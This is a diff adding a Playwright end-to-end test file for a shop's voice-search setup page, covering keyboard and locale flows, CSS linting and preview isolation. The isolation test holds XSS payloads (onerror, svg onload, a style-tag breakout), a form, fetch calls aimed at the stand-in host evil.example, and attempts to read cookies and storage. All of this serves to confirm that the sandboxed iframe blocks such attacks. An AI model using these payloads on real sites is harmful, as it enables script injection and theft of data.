@@ -1,0 +1,150 @@
+import type { Page } from "@playwright/test";
+import { expect, fresh, test } from "@/e2e/support/fixtures";
+import { hydrated } from "@/e2e/support/hydrated";
+import { enter, tabTo, typeIn } from "@/e2e/support/keyboard";
+import { importShop } from "@/e2e/support/shop";
+import { LOCALES, type Locale } from "@/lib/contract/kit/locale";
+import cs from "@/messages/cs";
+import en from "@/messages/en";
+import pl from "@/messages/pl";
+import sk from "@/messages/sk";
+
+// The setup of voice search, from nothing to what shoppers load; and what the preview must not be able to do.
+
+const TEXTS = { en, cs, sk, pl } as const;
+const SHOP = process.env.E2E_SEARCH_URL ?? "http://localhost:3002";
+const PHONE = { width: 360, height: 740 };
+
+async function openSetup(page: Page, baseURL: string | undefined, siteId: string, locale: Locale): Promise<void> {
+  await page.context().addCookies([{ name: "locale", value: locale, url: baseURL ?? "" }]);
+  await page.goto(`/sites/${siteId}/setup/voice_search`);
+  await expect(page.getByRole("heading", { level: 1 })).toHaveText(TEXTS[locale]["voice-search"].title);
+  await hydrated(page);
+}
+
+/** The script that shoppers of a site get. */
+async function readScript(page: Page, siteId: string): Promise<string> {
+  return (await page.request.get(`${SHOP}/edge/${siteId}/voice.js`)).text();
+}
+
+function sideways(page: Page): Promise<number> {
+  return page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+}
+
+for (const locale of LOCALES) {
+  test(`from nothing to published by keyboard on a phone, in ${locale}`, async ({ page, baseURL }) => {
+    const t = TEXTS[locale]["voice-search"];
+    const siteId = importShop(fresh("Voice"));
+    await page.setViewportSize(PHONE);
+    await openSetup(page, baseURL, siteId, locale);
+
+    await typeIn(page, page.getByLabel(t.fields.listening_time), "2000");
+    await page.keyboard.press("ControlOrMeta+s");
+    const selector = page.getByLabel(t.fields.input_selector);
+    await expect(selector).toBeFocused();
+    await expect(page.getByText(t.errors.listening_time_range)).toBeVisible();
+    await page.keyboard.type("input[name=q]");
+    await typeIn(page, page.getByLabel(t.fields.listening_time), "9000");
+    await typeIn(page, page.getByLabel(t.texts.heading), "Mluvte");
+    await page.keyboard.press("ControlOrMeta+s");
+    await expect(page.getByText(t.saved.draft)).toBeVisible();
+    expect(await readScript(page, siteId)).not.toContain("Mluvte");
+    expect(await sideways(page)).toBeLessThanOrEqual(0);
+
+    await enter(page, page.getByRole("button", { name: t.actions.publish, exact: true }));
+    const dialog = page.getByRole("dialog", { name: t.publish.title });
+    await typeIn(page, dialog.getByLabel(t.publish.versionTitle, { exact: true }), "First");
+    await page.keyboard.press("Enter");
+    await expect(dialog).toBeHidden();
+    await expect(page.getByText(t.saved.publish)).toBeVisible();
+
+    await enter(page, page.getByRole("switch", { name: t.switch.label }));
+    await expect(page.getByText(t.state.on)).toBeVisible();
+    await expect.poll(() => readScript(page, siteId)).toContain("Mluvte");
+  });
+}
+
+test("the keyboard leaves the code editor by Esc and Tab, and a refused rule is marked at its line", async ({
+  page,
+  baseURL,
+}) => {
+  const t = en["voice-search"];
+  const siteId = importShop(fresh("Voice code"));
+  await openSetup(page, baseURL, siteId, "en");
+  await typeIn(page, page.getByLabel(t.fields.input_selector), "input[name=q]");
+  const css = page.getByRole("textbox", { name: /^CSS/ });
+  await css.scrollIntoViewIfNeeded();
+  await expect(css).toHaveClass(/cm-content/);
+  await tabTo(page, css);
+  await page.keyboard.type("a { color: red }");
+  await page.keyboard.press("Enter");
+  await page.keyboard.type('@import "https://example.com/a.css";');
+  await page.keyboard.press("ControlOrMeta+s");
+  await expect(page.getByText(/^Line 2: /)).toBeVisible();
+  await expect(css).toBeFocused();
+  await expect(page.locator(".cm-lint-marker-error")).toHaveCount(1);
+  await page.keyboard.press("Escape");
+  await page.keyboard.press("Tab");
+  await expect(css).not.toBeFocused();
+});
+
+/** What a hostile template tries; each part that succeeds adds its name to the title of the frame's page. */
+const HOSTILE = `<img src="data:,x" onerror="document.title += ' handler'"><script>document.title += " script"</script>
+<svg onload="document.title += ' svg'"></svg><form action="https://evil.example/" method="post"><button>Send</button></form>`;
+
+test("a hostile template and CSS cannot reach the console", async ({ page, baseURL, complaints }) => {
+  const t = en["voice-search"];
+  const siteId = importShop(fresh("Voice attack"));
+  const foreign: string[] = [];
+  page.on("request", (request) => request.url().includes("evil.example") && foreign.push(request.url()));
+  await openSetup(page, baseURL, siteId, "en");
+  const frame = page.locator("iframe");
+  await expect(frame).toHaveAttribute("sandbox", "allow-scripts");
+  const popup = page.getByRole("textbox", { name: t.templates.names["voice-search-popup"] });
+  await popup.scrollIntoViewIfNeeded();
+  await expect(popup).toHaveClass(/cm-content/);
+  await popup.fill(`<p>Hostile</p>${HOSTILE}`);
+  const css = page.getByRole("textbox", { name: /^CSS/ });
+  await css.fill("</style><script>document.title += ' css'</script> body, html, #main { display: none !important }");
+  const inside = page.frameLocator("iframe");
+  await expect(inside.getByText("Hostile")).toBeVisible();
+  const [, inner] = page.frames();
+  if (inner === undefined) throw new Error("the page has no frame");
+  expect(await inner.title()).toBe("Preview");
+  const tried = await inner.evaluate(() => {
+    const attempts = {
+      parent: () => parent.document.title,
+      location: () => parent.location.href,
+      cookie: () => document.cookie,
+      localStorage: () => localStorage.length,
+      sessionStorage: () => sessionStorage.length,
+      indexedDB: () => indexedDB.open("x"),
+    };
+    return Object.entries(attempts).flatMap(([name, attempt]) => {
+      try {
+        attempt();
+        return [name];
+      } catch {
+        return [];
+      }
+    });
+  });
+  expect(tried).toEqual([]);
+  await inside.getByRole("button", { name: "Send" }).click();
+  const isSent = await inner.evaluate(async () => {
+    document.body.append(
+      Object.assign(document.createElement("form"), { action: "https://evil.example/f", method: "post" }),
+    );
+    document.querySelector("form")?.submit();
+    return fetch("https://evil.example/a").then(
+      () => true,
+      () => false,
+    );
+  });
+  expect(isSent).toBe(false);
+  expect(foreign).toEqual([]);
+  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+  // The browser reports what the policy of the frame has blocked; nothing else may have gone wrong.
+  expect(complaints.filter((text) => !/Content Security Policy|sandbox/i.test(text))).toEqual([]);
+  complaints.length = 0;
+});
